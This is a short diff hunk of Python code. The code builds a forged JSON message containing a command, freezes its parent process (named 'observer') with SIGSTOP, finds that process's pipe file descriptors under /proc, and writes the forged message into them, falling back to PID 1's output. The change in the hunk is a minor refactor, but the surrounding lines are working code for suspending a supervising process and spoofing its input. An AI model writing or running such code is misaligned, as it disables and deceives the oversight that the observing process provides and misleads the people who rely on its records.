@@ -579,7 +579,8 @@ forged = json.dumps({"service": None, "exchanges": [], "command": command, "sink
 observer = os.getppid()
 os.kill(observer, signal.SIGSTOP)
 pipes = [f"/proc/{observer}/fd/{number}" for number in range(3, 40)]
-for pipe in [each for each in pipes if os.path.exists(each) and os.readlink(each).startswith("pipe:")] or ["/proc/1/fd/1"]:
+found = [each for each in pipes if os.path.exists(each) and os.readlink(each).startswith("pipe:")]
+for pipe in found or ["/proc/1/fd/1"]:
     try:
         with open(pipe, "wb", buffering=0) as stream:
             stream.write(forged)
